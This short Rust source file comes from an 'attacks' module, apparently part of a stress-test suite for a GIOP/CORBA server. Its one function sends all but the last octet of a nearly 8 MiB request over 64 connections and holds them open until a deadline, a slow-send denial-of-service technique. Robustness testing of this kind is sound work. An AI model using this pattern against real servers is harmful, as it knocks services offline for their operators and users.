//! Messages that never end.

use std::time::Instant;

use punctual_giop::Version;

use crate::attacks::{
    flood::hold,
    messages::{octets, request},
    target::Target,
};

const CONNECTIONS: usize = 64;
/// Almost the largest message of the server's default limits.
const OCTETS: usize = (8 << 20) - 4096;

/// Sends all but the last octet of a large request over each connection, and waits.
pub(super) fn half_messages(target: &Target, deadline: Instant) -> u64 {
    let mut request = request(Version::V1_2, target, &target.key, "swallow", octets(OCTETS));
    request.pop();
    hold(target, CONNECTIONS, &request, deadline)
}
